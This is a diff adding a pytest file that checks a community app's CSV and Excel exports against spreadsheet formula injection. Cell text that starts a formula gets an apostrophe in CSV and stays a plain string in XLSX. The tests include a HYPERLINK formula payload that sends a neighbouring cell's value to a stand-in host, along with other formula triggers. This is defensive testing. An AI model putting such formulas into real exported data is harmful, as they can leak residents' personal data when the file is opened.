@@ -1,0 +1,62 @@
+"""Exports people open in Excel are inert: no text cell becomes a formula (OWASP CSV injection)."""
+import csv
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from fieldapp.exports import csv_bytes, xlsx_bytes
+from fieldapp.models import Role
+from tests.factories import make_household, make_person, make_session, make_user
+
+FORMULA = '=HYPERLINK("http://x/?q="&B2,"Xem")'
+TRIGGERED = [FORMULA, "+84912345678", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1"]
+
+
+def _csv_rows(data: bytes) -> list[list[str]]:
+    assert data.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(data.decode("utf-8").lstrip("\ufeff"))))
+
+
+def _cells(data: bytes):
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    return [cell for row in sheet.iter_rows() for cell in row]
+
+
+@pytest.mark.parametrize("text", TRIGGERED)
+def test_a_csv_text_cell_that_starts_a_formula_gets_an_apostrophe(text):
+    rows = _csv_rows(csv_bytes(["Họ và tên"], [[text]]))
+    assert rows[1] == ["'" + text]
+
+
+def test_csv_keeps_ordinary_text_and_numbers_as_they_are():
+    rows = _csv_rows(csv_bytes(["a", "b", "c"], [["Nguyễn Thị Hoà", -5, "Xóm 3 - Hùng Châu"]]))
+    assert rows[1] == ["Nguyễn Thị Hoà", "-5", "Xóm 3 - Hùng Châu"]
+
+
+def test_xlsx_text_cells_are_strings_never_formulas():
+    cells = _cells(xlsx_bytes("Danh sách", ["Họ và tên", "Năm sinh"], [[text, 1950] for text in TRIGGERED]))
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    # (XML reads a carriage return back as a line feed: the text is kept, as text)
+    assert [cell.value for cell in cells if cell.column == 1][1:] == [t.replace("\r", "\n") for t in TRIGGERED]
+    assert {cell.value for cell in cells if cell.column == 2} == {"Năm sinh", 1950}
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_resident_named_as_a_formula_comes_out_inert_in_the_official_list(client, login, fmt):
+    officer = make_user(role=Role.commune_officer)
+    headers = login(officer)
+    person = make_person(household=make_household(), full_name=FORMULA)
+    session = make_session(topics=("online_safety",))
+    added = client.post(f"/api/v1/sessions/{session.public_id}/attendees", headers=headers,
+                        json={"person_id": person.public_id})
+    assert added.status_code == 201, added.get_json()
+    exported = client.get("/api/v1/support-records", headers=headers, query_string={"format": fmt})
+    assert exported.status_code == 200
+    if fmt == "csv":
+        names = [row[1] for row in _csv_rows(exported.get_data())[1:]]
+        assert names == ["'" + FORMULA]
+    else:
+        cells = _cells(exported.get_data())
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+        assert FORMULA in [cell.value for cell in cells if cell.column == 2]
